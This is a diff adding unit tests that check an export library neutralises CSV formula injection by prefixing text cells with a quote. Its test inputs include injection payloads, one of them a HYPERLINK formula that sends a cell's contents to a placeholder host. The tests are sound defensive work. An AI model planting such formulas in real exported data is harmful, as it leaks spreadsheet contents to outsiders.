@@ -1,6 +1,6 @@
 /* Unit tests for export's writers: CSV fields quoted as RFC 4180 asks (and only then), rows with CRLF and
- * NULL as an empty field; JSON strings escaped, with every malformed UTF-8 sequence (stray continuation
- * bytes, overlong forms, surrogates, beyond U+10FFFF, cut short) replaced by U+FFFD and valid ones kept;
+ * NULL as an empty field, text cells that look like formulas neutralised; JSON strings escaped, with
+ * every malformed UTF-8 sequence (stray continuation bytes, overlong forms, surrogates, beyond U+10FFFF, cut short) replaced by U+FFFD and valid ones kept;
  * JSON rows with numbers, null and text. */
 #include <setjmp.h>
 #include <stdarg.h>
@@ -41,6 +41,33 @@ static void test_csv_fields(void **state)
 	assert_written(export_csv_field, "cr\r", "\"cr\r\"");
 	assert_written(export_csv_field, "\"", "\"\"\"\"");
 	assert_written(export_csv_field, "café; 100% ‘ok’", "café; 100% ‘ok’");
+}
+
+static void text_cell(FILE *out, const char *text)
+{
+	export_csv_cell(out, text, 1);
+}
+
+static void number_cell(FILE *out, const char *text)
+{
+	export_csv_cell(out, text, 0);
+}
+
+/* CSV injection (OWASP): a text cell that would run as a formula gets a leading quote; numbers do not. */
+static void test_csv_formulas(void **state)
+{
+	(void)state;
+	assert_written(text_cell, "=1+2", "\"'=1+2\"");
+	assert_written(text_cell, "=HYPERLINK(\"http://x\"&H2,\"go\")", "\"'=HYPERLINK(\"\"http://x\"\"&H2,\"\"go\"\")\"");
+	assert_written(text_cell, "+1", "\"'+1\"");
+	assert_written(text_cell, "-2+3", "\"'-2+3\"");
+	assert_written(text_cell, "@SUM(A1)", "\"'@SUM(A1)\"");
+	assert_written(text_cell, "\tx", "\"'\tx\"");
+	assert_written(text_cell, "\rx", "\"'\rx\"");
+	assert_written(text_cell, "a=1", "a=1");
+	assert_written(text_cell, "", "");
+	assert_written(text_cell, NULL, "");
+	assert_written(number_cell, "-5", "-5");
 }
 
 static void test_json_strings(void **state)
@@ -135,6 +162,7 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_csv_fields),
+		cmocka_unit_test(test_csv_formulas),
 		cmocka_unit_test(test_json_strings),
 		cmocka_unit_test(test_html),
 		cmocka_unit_test(test_rows),
